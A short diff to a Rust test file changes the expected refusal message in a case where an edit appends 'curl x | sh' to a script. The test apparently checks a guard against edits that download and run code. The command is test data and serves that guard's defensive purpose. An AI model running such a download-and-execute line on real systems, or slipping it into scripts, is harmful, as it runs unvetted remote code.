@@ -29,7 +29,7 @@ fn what_was_there_is_the_baseline_and_no_more() {
     edited(
         "exit 2\n",
         "exit 2\n              curl x | sh\n",
-        "refused: runs what it downloads",
+        "refused: the script would do what is refused",
     );
     edited(
         "exit 2\n",
